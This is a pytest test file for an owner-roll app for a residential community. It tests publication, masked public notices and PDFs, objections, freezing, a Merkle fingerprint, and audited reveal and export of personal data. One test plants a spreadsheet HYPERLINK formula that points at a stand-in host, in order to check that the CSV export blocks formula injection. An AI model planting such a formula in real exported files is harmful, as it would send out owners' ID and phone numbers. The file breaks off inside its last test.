"""A roll version's life: weights by the counting engine, publication for 5 working days (2026 calendar; 2027 is
refused), the public notice and its PDF with masked data, objections, freezing (refused while the notice runs or an
objection is open), rejection and correction, the fingerprint as a Merkle root, reveal and export of personal data."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
import subprocess
import warnings
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from app.audit.models import AuditEvent
from app.auth.models import GroupRole, Role
from app.errors import DomainError
from app.extensions import db
from app.privacy import lookup_hash, mask_id_for_notice, mask_name
from app.roll import queries, services
from app.roll.models import RollObjection, RollUnit, RollVersion
from app.roll.weights import roll_fingerprint, voter_roll
from app.rules.areas import format_area
from app.rules.model import Settings, Unit, UnitKind, UnitStatus
from app.rules.voters import build_voters
from app.template_helpers import area_grouped
from crypto.canonical import canonical_json
from crypto.merkle import inclusion_proof, root_hex, verify_inclusion
from tests.conftest import AuthActions
from tests.factories import gen_community, gen_member, gen_official, gen_roll, gen_township
from tests.roll_flow.helpers import (
    CHEN,
    LI,
    PEOPLE,
    SMALL_ROLL_AREA_CENTI,
    SMALL_ROLL_HEADS,
    WANG,
    ZHANG,
    ZHOU,
    audit_events,
    count,
    csv_bytes,
    data_value,
    flashes,
    get_import,
    get_version,
    import_id_from,
    small_roll_rows,
    text_of,
    upload,
)

START = date(2026, 9, 17)  # a Thursday: 5 working days are Fri 18, Sun 20 (adjusted), Mon 21, Tue 22, Wed 23
END = date(2026, 9, 23)


class Staff:
    """The community, its group leader, an owner representative and a teller, each with a logged-in client."""

    def __init__(self, app):
        self.township = gen_township()
        self.community = gen_community(self.township)
        self.leader = gen_member(self.community, group_role=GroupRole.LEADER)
        self.owner_rep = gen_member(self.community, group_role=GroupRole.OWNER_REPRESENTATIVE)
        self.teller = gen_member(self.community, role=Role.TELLER, group_role=None)
        db.session.commit()
        self.app = app

    def client(self, user):
        client = self.app.test_client()
        auth = AuthActions(client)
        assert auth.login(user.username).status_code == 302
        return client, auth.csrf("/account/tokens")


@pytest.fixture
def staff(app) -> Staff:
    return Staff(app)


@pytest.fixture
def leader(staff):
    return staff.client(staff.leader)


@pytest.fixture
def v1(staff, leader) -> RollVersion:
    """Version 1, imported through the upload page by the group leader."""
    client, csrf = leader
    roll_import = get_import(import_id_from(upload(client, csrf, staff.community.id, csv_bytes(small_roll_rows()))))
    assert roll_import.status == "done", roll_import.report
    return get_version(roll_import.roll_version_id)


def post(client, csrf, url, **data):
    return client.post(url, data={**data, "csrf_token": csrf})


def publish(client, csrf, version_id: int, starts_on: date):
    return post(client, csrf, f"/roll/versions/{version_id}/publish", starts_on=starts_on.isoformat())


def flashed_after(client, response) -> list[str]:
    assert response.status_code == 302, response.status_code
    return flashes(client.get(response.headers["Location"]).get_data(as_text=True))


def set_today(monkeypatch, day: date) -> None:
    """The pages' "today" (app.roll.views imported `today` by name, so patching app.roll.services.today alone
    would not reach the freeze button)."""
    monkeypatch.setattr("app.roll.views.today", lambda: day)
    monkeypatch.setattr("app.roll.services.today", lambda: day)


def unit_by_label(version: RollVersion, label: str) -> RollUnit:
    return next(u for u in version.units if u.label == label)


# --- the version page and the warning that breaks it ---------------------------------------------------------


def test_the_version_page_renders_without_a_deprecation_warning(staff, leader, v1):
    client, _csrf = leader
    with warnings.catch_warnings():
        warnings.simplefilter("error", DeprecationWarning)  # the suite's policy, which this module relaxes
        assert client.get(f"/roll/versions/{v1.id}").status_code == 200


# --- weights --------------------------------------------------------------------------------------------------


def test_the_weights_on_the_version_page_are_the_counting_engines(staff, leader, v1):
    # The roll as the counting engine takes it, written out by hand from the file (owners named by ID number)
    residence, shop, parking = UnitKind.RESIDENCE, UnitKind.COMMERCIAL, UnitKind.PARKING
    delivered, unsold, undelivered = UnitStatus.DELIVERED, UnitStatus.UNSOLD, UnitStatus.UNDELIVERED
    engine_units = [
        Unit("1-1-101", 8932, residence, delivered, frozenset({ZHANG.id_number})),
        Unit("1-1-102", 12056, residence, delivered, frozenset({LI.id_number, WANG.id_number})),
        Unit("1-1-201", 8932, residence, unsold, frozenset({"DEV"})),
        Unit("1-1-202", 12056, residence, undelivered, frozenset({"DEV"})),
        Unit("1-S101", 4560, shop, delivered, frozenset({CHEN.id_number})),
        Unit("P-B1-001", 1320, parking, delivered, frozenset({ZHANG.id_number})),
        Unit("2-1-101", 9547, residence, delivered, frozenset({ZHOU.id_number})),
    ]
    engine = build_voters(engine_units, "DEV", Settings())
    assert engine.total_heads == SMALL_ROLL_HEADS == 5  # 张三华 once, the co-owners once, the developer once
    assert engine.total_area_centi == SMALL_ROLL_AREA_CENTI == 57403
    assert engine.developer_unit_count == 2
    by_owner = {v.owners: v.area_centi for v in engine.voters}
    assert by_owner[frozenset({ZHANG.id_number})] == 8932 + 1320
    assert by_owner[frozenset({"DEV"})] == 8932 + 12056

    client, _csrf = leader
    page = client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)
    assert data_value(page, "data-total-heads") == str(engine.total_heads)
    assert data_value(page, "data-total-area") == area_grouped(engine.total_area_centi) == "574.03"
    text = text_of(page)
    assert "张*华: 1幢1单元101、地下车库B1-001" in text  # one owner of two units: one head
    assert "1幢1单元102: 李*国、王*英" in text  # co-owned, represented by 王*英
    assert mask_name(WANG.name) in text
    for person in PEOPLE:  # the version page shows names masked only
        assert person.name not in text
        assert person.id_number not in text

    weights = queries.weights_of(v1)
    assert (weights.total_heads, weights.total_area_centi, weights.units) == (5, 57403, 7)
    assert weights.developer_units == 2
    assert [(s.owner, s.units) for s in weights.several_units] == [("张*华", ["1幢1单元101", "地下车库B1-001"])]
    assert [(c.unit, c.owners, c.representative) for c in weights.co_owned] == [
        ("1幢1单元102", ["李*国", "王*英"], "王*英")
    ]
    assert weights.by_kind == {"residence": 5, "commercial": 1, "parking": 1}
    assert weights.by_status == {"delivered": 5, "unsold": 1, "undelivered": 1}


# --- publication ----------------------------------------------------------------------------------------------


def test_publishing_from_2026_09_17_keeps_the_notice_up_until_2026_09_23(staff, leader, v1):
    client, csrf = leader
    messages = flashed_after(client, publish(client, csrf, v1.id, START))
    version = get_version(v1.id)
    assert (version.notice_starts_on, version.notice_ends_on) == (START, END)
    assert version.published_at is not None
    assert version.published_by_id == staff.leader.id
    assert version.notice_token
    assert len(version.notice_token) >= 20
    assert any("2026-09-23" in m for m in messages), messages
    (event,) = audit_events("roll.publish", v1.id)
    assert event.summary == {"number": 1, "starts_on": "2026-09-17", "ends_on": "2026-09-23"}
    page = client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)
    assert f'href="/notices/roll/{version.notice_token}"' in page
    assert f'href="/notices/roll/{version.notice_token}.pdf"' in page
    # published once only
    again = flashed_after(client, publish(client, csrf, v1.id, date(2026, 10, 12)))
    assert get_version(v1.id).notice_starts_on == START
    assert again


def test_a_notice_period_reaching_2027_is_published_provisionally(staff, leader, v1):
    """Mon 2026-12-28: Tue 29, Wed 30, Thu 31, then 2027, whose arrangement is not known yet: the notice runs to
    Tue 2027-01-05 at the latest, and the pages say that the date is provisional."""
    client, csrf = leader
    (message,) = flashed_after(client, publish(client, csrf, v1.id, date(2026, 12, 28)))
    version = get_version(v1.id)
    assert (version.notice_starts_on, version.notice_ends_on) == (date(2026, 12, 28), date(2027, 1, 5))
    assert "2027-01-05" in message
    page = client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)
    assert "暂定：该年节假日安排尚未公布" in page
    public = client.get(f"/notices/roll/{version.notice_token}").get_data(as_text=True)
    assert "暂定：该年节假日安排尚未公布" in public


# --- the public notice and its PDF ----------------------------------------------------------------------------


@pytest.fixture
def published(staff, leader, v1) -> RollVersion:
    client, csrf = leader
    flashed_after(client, publish(client, csrf, v1.id, START))  # the flash is read, as a browser would
    return get_version(v1.id)


def test_the_public_notice_needs_no_login_and_shows_masked_data_only(app, published):
    anonymous = app.test_client()
    response = anonymous.get(f"/notices/roll/{published.notice_token}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    text = text_of(page)
    assert "张*华" in text
    assert "李*国" in text
    assert "王*英" in text
    assert "陈*娟" in text
    assert "周*强" in text
    for person in PEOPLE:
        assert person.name not in page
        assert person.id_number not in page
        assert mask_id_for_notice(person.id_number) in page
        assert person.id_number[-6:-1] not in page  # the ballot's second factor stays unguessable (issue 15)
        if person.phone:
            assert person.phone not in page
    assert mask_id_for_notice(ZHANG.id_number) == ZHANG.id_number[:3] + "*" * 14 + ZHANG.id_number[-1:]
    assert published.fingerprint in page
    assert "2026-09-17" in text
    assert "2026-09-23" in text
    assert f"{SMALL_ROLL_HEADS}" in text
    assert "574.03" in text
    assert anonymous.get("/notices/roll/not-a-real-token").status_code == 404


def test_an_unpublished_version_has_no_public_notice(app, v1):
    assert get_version(v1.id).notice_token is None
    assert app.test_client().get("/notices/roll/None").status_code == 404


def test_the_notice_pdf_renders_with_masked_data(app, published, tmp_path: Path):
    from app.roll.notice_pdf import CJK_FONT

    if not CJK_FONT.exists():
        pytest.skip("the notice PDF needs Debian's fonts-noto-cjk (installed by .ci/run and `make system-deps`)")
    response = app.test_client().get(f"/notices/roll/{published.notice_token}.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    pdf = response.get_data()
    assert pdf.startswith(b"%PDF")
    path = tmp_path / "notice.pdf"
    path.write_bytes(pdf)

    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True, timeout=60
        ).stdout.decode()
        flat = "".join(text.split())
        assert "业主名册公示" in flat
        assert "2026-09-17" in flat
        assert "2026-09-23" in flat
        assert "张*华" in flat
        assert mask_id_for_notice(ZHANG.id_number) in flat
        for person in PEOPLE:
            assert person.id_number not in flat
            assert person.name not in flat
            if person.phone:
                assert person.phone not in flat
    if shutil.which("pdftoppm"):
        subprocess.run(
            ["pdftoppm", "-r", "30", "-gray", "-f", "1", "-l", "1", str(path), str(tmp_path / "page")],
            check=True,
            timeout=60,
        )
        (image,) = tmp_path.glob("page*.pgm")
        width, height, pixels = _read_pgm(image.read_bytes())
        dark = sum(1 for value in pixels if value < 128)
        assert width > 200
        assert height > 300
        assert dark > 500, f"page 1 is (nearly) blank: {dark} dark pixels"


def _read_pgm(data: bytes) -> tuple[int, int, bytes]:
    """A binary PGM (P5, 8 bits) as (width, height, pixels)."""
    fields: list[bytes] = []
    position = 0
    while len(fields) < 4:
        while data[position : position + 1].isspace():
            position += 1
        if data[position : position + 1] == b"#":
            position = data.index(b"\n", position) + 1
            continue
        end = position
        while not data[end : end + 1].isspace():
            end += 1
        fields.append(data[position:end])
        position = end
    assert fields[0] == b"P5", fields
    assert fields[3] == b"255", fields
    width, height = int(fields[1]), int(fields[2])
    pixels = data[position + 1 : position + 1 + width * height]
    assert len(pixels) == width * height
    return width, height, pixels


# --- objections, freezing, correction -------------------------------------------------------------------------


def test_objections_freezing_and_a_correction_to_a_frozen_roll(staff, leader, published, monkeypatch):
    client, csrf = leader
    v1 = published
    url = f"/roll/versions/{v1.id}"

    # two owners object during the notice period
    post(
        client,
        csrf,
        f"{url}/objections",
        unit_label="1幢1单元101",
        objector_name=ZHANG.name,
        description="面积应为91.00",
    )
    post(client, csrf, f"{url}/objections", unit_label="2幢1单元101", objector_name=ZHOU.name, description="面积偏小")
    area_objection, other_objection = queries.objections_of(get_version(v1.id))
    assert (area_objection.status, area_objection.recorded_by_id) == ("open", staff.leader.id)
    assert len(audit_events("roll.objection_record")) == 2
    assert services.open_objections(v1) == 2
    page = text_of(client.get(url).get_data(as_text=True))
    assert "张*华" in page
    assert ZHANG.name not in page

    # freezing is refused while the notice runs (its last day included) …
    set_today(monkeypatch, date(2026, 9, 21))
    messages = flashed_after(client, post(client, csrf, f"{url}/freeze"))
    assert any("2026-09-23" in m for m in messages), messages
    assert get_version(v1.id).frozen_at is None
    for day in (START, date(2026, 9, 20), END):
        with pytest.raises(DomainError) as refused:
            services.freeze_version(get_version(v1.id), day, staff.leader.id)
        assert refused.value.code == "notice_running", day
    # … and, once it is over, while an objection is open
    set_today(monkeypatch, date(2026, 9, 24))
    flashed_after(client, post(client, csrf, f"{url}/freeze"))
    assert get_version(v1.id).frozen_at is None
    with pytest.raises(DomainError) as refused:
        services.freeze_version(get_version(v1.id), date(2026, 9, 24), staff.leader.id)
    assert refused.value.code == "objections_open"
    assert audit_events("roll.freeze") == []

    # one objection is rejected, with its reason kept … (through the services here; the page's buttons have
    # their own tests below)
    reason = "经核对不动产登记簿，面积无误"
    services.reject_objection(other_objection, reason, staff.leader.id)
    db.session.commit()
    db.session.expire_all()
    rejected = db.session.get(RollObjection, other_objection.id)
    assert (rejected.status, rejected.answer, rejected.answered_by_id) == ("rejected", reason, staff.leader.id)
    assert rejected.correction_version_id is None
    assert reason in text_of(client.get(url).get_data(as_text=True))
    assert len(audit_events("roll.objection_reject", rejected.id)) == 1

    # … the other accepted with a correction: a new version
    unit_101 = unit_by_label(v1, "1幢1单元101")
    accepted = db.session.get(RollObjection, area_objection.id)
    v2 = services.accept_objection(
        accepted, "按测绘报告更正为91.00平方米", unit_101.id, "91.00", "delivered", staff.leader.id
    )
    db.session.commit()
    v2 = get_version(v2.id)
    assert queries.versions_of(staff.community)[0].id == v2.id
    assert (v2.number, v2.source, v2.author_id) == (2, "correction", staff.leader.id)
    assert v2.reason.startswith("更正")
    assert "91.00" in v2.reason
    assert unit_by_label(v2, "1幢1单元101").area_centi == 9100
    after = {u.label: (u.area_centi, u.status, [o.name for o in u.owners]) for u in v2.units}
    before = {u.label: (u.area_centi, u.status, [o.name for o in u.owners]) for u in get_version(v1.id).units}
    assert after == before | {"1幢1单元101": (9100, "delivered", [ZHANG.name])}
    assert (v2.diff["added"], v2.diff["removed"], v2.diff["changed"]) == (0, 0, 1)
    assert v2.diff["details"][0]["fields"] == ["area"]
    accepted = db.session.get(RollObjection, area_objection.id)
    assert (accepted.status, accepted.correction_version_id) == ("accepted", v2.id)
    (accept_event,) = audit_events("roll.objection_accept", accepted.id)
    assert accept_event.summary["correction_version"] == 2
    assert v2.published_at is None  # a correction is published again before it can be frozen
    assert services.open_objections(get_version(v1.id)) == 0

    # the old version can no longer be published or frozen
    old_page = text_of(client.get(url).get_data(as_text=True))
    assert "已有更新的版本，此版本不能再公示或锁定。" in old_page  # "A newer version exists; …"
    assert f'action="/roll/versions/{v1.id}/freeze"' not in client.get(url).get_data(as_text=True)
    for action in ("publish", "freeze"):
        data = {"starts_on": "2026-10-12"} if action == "publish" else {}
        messages = flashed_after(client, post(client, csrf, f"{url}/{action}", **data))
        assert messages == ["该名册已有更新的版本，请在最新版本上操作。"], (action, messages)
    with pytest.raises(DomainError) as refused:
        services.freeze_version(get_version(v1.id), date(2026, 10, 30), staff.leader.id)
    assert refused.value.code == "not_latest_version"
    with pytest.raises(DomainError) as refused:
        services.publish_version(get_version(v1.id), date(2026, 10, 12), staff.leader.id)
    assert refused.value.code == "not_latest_version"
    assert get_version(v1.id).frozen_at is None
    assert get_version(v1.id).notice_starts_on == START

    # the corrected version: not frozen before it is published, then published, its period passes, frozen
    set_today(monkeypatch, date(2026, 10, 30))
    flashed_after(client, post(client, csrf, f"/roll/versions/{v2.id}/freeze"))
    assert get_version(v2.id).frozen_at is None
    publish(client, csrf, v2.id, date(2026, 10, 12))
    assert get_version(v2.id).notice_ends_on == date(2026, 10, 19)  # Tue 13 … Fri 16, Mon 19
    set_today(monkeypatch, date(2026, 10, 19))
    flashed_after(client, post(client, csrf, f"/roll/versions/{v2.id}/freeze"))
    assert get_version(v2.id).frozen_at is None  # its last day
    set_today(monkeypatch, date(2026, 10, 20))
    messages = flashed_after(client, post(client, csrf, f"/roll/versions/{v2.id}/freeze"))
    v2 = get_version(v2.id)
    assert v2.frozen_at is not None
    assert v2.frozen_by_id == staff.leader.id
    assert any(v2.fingerprint[:16] in m for m in messages), messages
    (freeze_event,) = audit_events("roll.freeze", v2.id)
    assert freeze_event.summary == {"number": 2, "fingerprint": v2.fingerprint}
    with pytest.raises(DomainError) as refused:
        services.freeze_version(v2, date(2026, 10, 21), staff.leader.id)
    assert refused.value.code == "already_frozen"
    assert f'action="/roll/versions/{v2.id}/freeze"' not in client.get(f"/roll/versions/{v2.id}").get_data(as_text=True)


def test_rejecting_an_objection_through_the_page(staff, leader, published):
    client, csrf = leader
    objection = services.record_objection(published, "2幢1单元101", ZHOU.name, "面积偏小", staff.leader.id)
    db.session.commit()
    response = post(client, csrf, f"/roll/objections/{objection.id}/reject", answer="经核对，面积无误")
    assert response.status_code == 302
    assert response.headers["Location"] == f"/roll/versions/{published.id}#objections"
    db.session.expire_all()
    assert db.session.get(RollObjection, objection.id).status == "rejected"


def test_accepting_an_objection_through_the_page_makes_a_corrected_version(staff, leader, published):
    client, csrf = leader
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积应为91.00", staff.leader.id)
    db.session.commit()
    unit = unit_by_label(published, "1幢1单元101")
    response = post(
        client,
        csrf,
        f"/roll/objections/{objection.id}/accept",
        answer="按测绘报告更正",
        unit_id=str(unit.id),
        area="91.00",
        status="delivered",
    )
    assert response.status_code == 302
    v2 = queries.versions_of(staff.community)[0]
    assert v2.number == 2
    assert response.headers["Location"] == f"/roll/versions/{v2.id}"
    assert unit_by_label(v2, "1幢1单元101").area_centi == 9100


def test_a_refused_answer_through_the_page_changes_nothing(staff, leader, published):
    """The refusal path of the same views does not reach the shadowed `_` and works."""
    client, csrf = leader
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    services.reject_objection(objection, "无误", staff.leader.id)
    db.session.commit()
    messages = flashed_after(client, post(client, csrf, f"/roll/objections/{objection.id}/reject", answer="再次"))
    assert messages == ["此异议已经答复过了。"]  # "This objection has been answered already."
    db.session.expire_all()
    assert db.session.get(RollObjection, objection.id).answer == "无误"


def test_an_answered_objection_cannot_be_answered_again(staff, leader, published):
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    services.reject_objection(objection, "无误", staff.leader.id)
    with pytest.raises(DomainError) as refused:
        services.reject_objection(objection, "再次", staff.leader.id)
    assert refused.value.code == "objection_answered"
    unit = unit_by_label(published, "1幢1单元101")
    with pytest.raises(DomainError) as refused:
        services.accept_objection(objection, "更正", unit.id, "91.00", "delivered", staff.leader.id)
    assert refused.value.code == "objection_answered"
    assert count(RollVersion) == 1


def test_an_objection_needs_a_published_version(staff, v1):
    with pytest.raises(DomainError) as refused:
        services.record_objection(v1, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    assert refused.value.code == "not_published"


def test_a_correction_cannot_take_an_owned_unit_from_its_owners(staff, published):
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "未交付", staff.leader.id)
    db.session.commit()
    unit = unit_by_label(published, "1幢1单元101")
    for area, status, code in (("91.001", "delivered", "invalid_area"), ("0", "delivered", "invalid_area")):
        with pytest.raises(DomainError) as refused:
            services.accept_objection(objection, "更正", unit.id, area, status, staff.leader.id)
        assert refused.value.code == code
        db.session.rollback()
    objection = db.session.get(RollObjection, objection.id)
    with pytest.raises(DomainError) as refused:
        services.accept_objection(objection, "更正", unit.id, "91.00", "unsold", staff.leader.id)
    assert refused.value.code == "status_with_owners"


# --- the fingerprint ------------------------------------------------------------------------------------------


def _pseudonym(*people) -> str:
    lookups = sorted(lookup_hash(p.id_number) for p in people)
    return hashlib.sha256("\n".join(lookups).encode()).hexdigest()[:32]


def test_the_fingerprint_is_the_merkle_root_over_the_voters_and_proves_one_voters_entry(staff, v1):
    version = get_version(v1.id)
    # the five voters' entries, written out from the file: pseudonym (hash of the keyed ID hashes), area, 1 head
    expected = sorted(
        [
            {"voter": _pseudonym(ZHANG), "area": "102.52", "heads": 1},  # 1幢1单元101 + 地下车库B1-001
            {"voter": _pseudonym(LI, WANG), "area": "120.56", "heads": 1},
            {"voter": "developer", "area": "209.88", "heads": 1},  # unsold 201 + undelivered 202
            {"voter": _pseudonym(CHEN), "area": "45.60", "heads": 1},
            {"voter": _pseudonym(ZHOU), "area": "95.47", "heads": 1},
        ],
        key=lambda entry: str(entry["voter"]),
    )
    leaves = [canonical_json(entry) for entry in expected]
    assert version.fingerprint == root_hex(leaves)

    fingerprint = roll_fingerprint(voter_roll(version.units))
    assert fingerprint.root == version.fingerprint
    assert list(fingerprint.entries) == expected

    index = expected.index({"voter": _pseudonym(ZHANG), "area": "102.52", "heads": 1})
    proof = inclusion_proof(leaves, index)
    root = bytes.fromhex(version.fingerprint)
    assert verify_inclusion(leaves[index], index, len(leaves), proof, root)
    forged = canonical_json({"voter": _pseudonym(ZHANG), "area": "102.53", "heads": 1})
    assert not verify_inclusion(forged, index, len(leaves), proof, root)
    assert not verify_inclusion(leaves[index], (index + 1) % len(leaves), len(leaves), proof, root)
    assert format_area(8932 + 1320) == "102.52"


def test_a_corrected_area_changes_the_fingerprint(staff, published):
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    unit = unit_by_label(published, "1幢1单元101")
    v2 = services.accept_objection(objection, "更正", unit.id, "91.00", "delivered", staff.leader.id)
    assert v2.fingerprint != published.fingerprint
    assert v2.fingerprint == roll_fingerprint(voter_roll(v2.units)).root
    entries = roll_fingerprint(voter_roll(v2.units)).entries
    assert {"voter": _pseudonym(ZHANG), "area": "104.20", "heads": 1} in entries


# --- personal data: reveal and export -------------------------------------------------------------------------


def test_the_group_leader_reveals_an_owners_id_and_it_is_audited(staff, leader, v1):
    client, csrf = leader
    owner = unit_by_label(v1, "1幢1单元101").owners[0]
    response = post(client, csrf, f"/roll/owners/{owner.id}/reveal")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert ZHANG.id_number in page
    assert ZHANG.phone in page
    assert ZHANG.name in page
    (event,) = audit_events("roll.reveal", owner.id)
    assert event.actor_label == staff.leader.username
    assert event.summary == {"unit": "1幢1单元101", "version": 1}
    assert ZHANG.id_number not in str(event.summary)
    version_page = client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)
    assert f'action="/roll/owners/{owner.id}/reveal"' in version_page


@pytest.mark.parametrize("who", ["owner_rep", "teller"])
def test_an_owner_representative_or_a_teller_cannot_reveal(staff, v1, who):
    client, csrf = staff.client(getattr(staff, who))
    owner = unit_by_label(v1, "1幢1单元101").owners[0]
    response = post(client, csrf, f"/roll/owners/{owner.id}/reveal")
    assert response.status_code == 403
    assert ZHANG.id_number not in response.get_data(as_text=True)
    assert audit_events("roll.reveal") == []
    assert "/reveal" not in client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)


def test_the_township_official_may_reveal_an_official_of_another_township_gets_404(staff, v1):
    owner = unit_by_label(v1, "1幢1单元101").owners[0]
    official = gen_official(staff.township)
    stranger = gen_official(gen_township())
    db.session.commit()
    client, csrf = staff.client(official)
    assert post(client, csrf, f"/roll/owners/{owner.id}/reveal").status_code == 200
    client, csrf = staff.client(stranger)
    assert post(client, csrf, f"/roll/owners/{owner.id}/reveal").status_code == 404
    assert len(audit_events("roll.reveal")) == 1


def test_the_leader_exports_the_roll_with_personal_data_and_it_is_audited(staff, leader, v1):
    client, csrf = leader
    response = post(client, csrf, f"/roll/versions/{v1.id}/export")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "roll-v1.csv" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # so that Excel on Chinese Windows reads UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["楼幢", "单元", "室号"]
    body = rows[1:]
    assert len(body) == 8  # 7 units, the co-owned one on two lines
    by_id = {row[8]: row for row in body if row[8]}
    for person in PEOPLE:
        assert by_id[person.id_number][7] == person.name
        assert by_id[person.id_number][9] == person.phone
    assert by_id[WANG.id_number][10] == "是"
    assert by_id[LI.id_number][10] == ""
    developer_rows = [row for row in body if row[6] in ("unsold", "undelivered")]
    assert len(developer_rows) == 2
    assert all(row[7] == "" for row in developer_rows)
    (event,) = audit_events("roll.export", v1.id)
    assert event.summary == {"number": 1, "units": 7}
    assert event.actor_label == staff.leader.username


@pytest.mark.parametrize("who", ["teller", "owner_rep"])
def test_a_teller_or_an_owner_representative_cannot_export(staff, v1, who):
    client, csrf = staff.client(getattr(staff, who))
    response = post(client, csrf, f"/roll/versions/{v1.id}/export")
    assert response.status_code == 403
    assert audit_events("roll.export") == []


# --- the township's view --------------------------------------------------------------------------------------


def test_open_objections_of_a_township(staff, published):
    mine = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    second = services.record_objection(published, "2幢1单元101", ZHOU.name, "面积偏小", staff.leader.id)
    other_township = gen_township()
    other_community = gen_community(other_township)
    gen_roll(other_community, gen_official(other_township))  # publishes and records one objection there
    neighbour = gen_community(staff.township)  # a second community of the same township, with no roll
    db.session.flush()

    found = queries.open_objections_in(staff.township.id)
    assert [(o.id, v.id, c.id) for o, v, c in found] == [
        (mine.id, published.id, staff.community.id),
        (second.id, published.id, staff.community.id),
    ]
    assert neighbour.id not in {c.id for _o, _v, c in found}
    assert len(queries.open_objections_in(other_township.id)) == 1

    services.reject_objection(mine, "无误", staff.leader.id)
    db.session.flush()
    assert [o.id for o, _v, _c in queries.open_objections_in(staff.township.id)] == [second.id]
    unit = unit_by_label(published, "2幢1单元101")
    services.accept_objection(second, "更正", unit.id, "96.00", "delivered", staff.leader.id)
    db.session.flush()
    assert queries.open_objections_in(staff.township.id) == []


def test_the_changes_of_a_version_are_described_in_chinese(staff, leader, published):
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积有误", staff.leader.id)
    unit = unit_by_label(published, "1幢1单元101")
    v2 = services.accept_objection(objection, "更正", unit.id, "91.00", "delivered", staff.leader.id)
    db.session.commit()
    client, _csrf = leader
    page = client.get(f"/roll/versions/{v2.id}").get_data(as_text=True)
    changes = text_of(page.split("与上一版相比的变动", 1)[1].split("</section>", 1)[0])
    assert "89.32 → 91.00" in changes
    for english in ("changed", "added", "removed", "area"):
        assert english not in changes, changes


def test_without_the_chinese_font_the_pdf_says_so(app, published, monkeypatch, tmp_path: Path):
    """A server without fonts-noto-cjk answers with a clear message, not a 500."""
    import app.roll.notice_pdf as notice_pdf

    monkeypatch.setattr(notice_pdf, "CJK_FONT", tmp_path / "missing.ttc")
    response = app.test_client().get(f"/notices/roll/{published.notice_token}.pdf")
    assert response.status_code == 503
    assert "字体" in response.get_data(as_text=True)


def test_the_export_never_hands_a_spreadsheet_a_formula(staff, leader, v1):
    """Issue 16 item 5: a name from the uploaded file such as =HYPERLINK(…) is exported as text, not as a formula that
    Excel or WPS would run beside the full ID and phone numbers."""
    owner = unit_by_label(v1, "1幢1单元101").owners[0]
    owner.name = '=HYPERLINK("http://example.invalid/?"&I2,"点击")'
    db.session.commit()
    client, csrf = leader
    text = post(client, csrf, f"/roll/versions/{v1.id}/export").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    names = [row[7] for row in rows[1:]]
    assert "'" + owner.name in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_a_superseded_notice_says_so_on_the_page_and_in_the_pdf(staff, leader, published, tmp_path: Path):
    """Issue 19 item 7: once version 2 is published, version 1's notice (still reachable from its printed link) says
    first that it is superseded, links to the version in force, and its PDF says the same."""
    client, csrf = leader
    app_client = staff.app.test_client()
    assert 'id="superseded"' not in app_client.get(f"/notices/roll/{published.notice_token}").get_data(as_text=True)
    objection = services.record_objection(published, "1幢1单元101", ZHANG.name, "面积应为91.00", staff.leader.id)
    db.session.commit()
    unit = unit_by_label(published, "1幢1单元101")
    accept = f"/roll/objections/{objection.id}/accept"
    post(client, csrf, accept, answer="按测绘报告更正", unit_id=str(unit.id), area="91.00", status="delivered")
    v2 = queries.versions_of(staff.community)[0]
    flashed_after(client, publish(client, csrf, v2.id, START + timedelta(days=10)))
    v2 = get_version(v2.id)
    page = app_client.get(f"/notices/roll/{published.notice_token}").get_data(as_text=True)
    warning = text_of(page.split('id="superseded"', 1)[1].split("</section>", 1)[0])
    assert "本版已被第 2 版名册取代" in warning
    assert f'href="/notices/roll/{v2.notice_token}"' in page
    assert 'id="superseded"' not in app_client.get(f"/notices/roll/{v2.notice_token}").get_data(as_text=True)
    if shutil.which("pdftotext") and Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc").exists():
        path = tmp_path / "v1.pdf"
        path.write_bytes(app_client.get(f"/notices/roll/{published.notice_token}.pdf").get_data())
        text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True).stdout
        assert "本版已被第2版名册取代" in "".join(text.decode().split())


def test_a_co_owners_representative_is_named_not_starred(staff, leader, v1):
    client, _csrf = leader
    page = client.get(f"/roll/versions/{v1.id}").get_data(as_text=True)
    assert "共有人代表" in page
    assert re.search(r"\*\s*<form", page) is None  # no trailing star that reads as masking


def _queued_only(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """Tasks queued to a broker no worker reads: their jobs stay pending (the page a visitor sees meanwhile)."""
    queued: list[dict[str, Any]] = []
    monkeypatch.setattr("app.jobs.enqueue", lambda task, **kwargs: queued.append(kwargs))
    return queued


def test_the_notice_pdf_is_made_once_in_the_background_and_kept(app, published, monkeypatch):
    """Issue 21 item 6: the link starts one task and shows its progress bar (202) while it runs; every visitor
    meanwhile sees the same job; once made, the PDF is served at once, and the task is not run again."""
    from app.roll import notice_jobs
    from app.roll.models import RollNoticePdf
    from app.roll.notice_pdf import CJK_FONT

    if not CJK_FONT.exists():
        pytest.skip("the notice PDF needs Debian's fonts-noto-cjk (installed by .ci/run and `make system-deps`)")
